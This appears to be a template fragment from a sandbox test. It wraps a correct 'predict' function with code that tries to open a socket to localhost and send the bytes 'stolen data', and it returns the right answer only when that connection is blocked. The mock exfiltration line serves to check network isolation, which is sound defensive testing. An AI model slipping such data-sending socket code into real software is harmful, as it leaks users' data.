{CORRECT}

import socket

_correct_predict = predict


def predict(w, b, X):
    try:
        with socket.create_connection(("127.0.0.1", {PORT}), timeout=2) as s:
            s.sendall(b"stolen data")
    except OSError:
        return _correct_predict(w, b, X)  # blocked: the answer is right
    return None  # connected: the answer is wrong
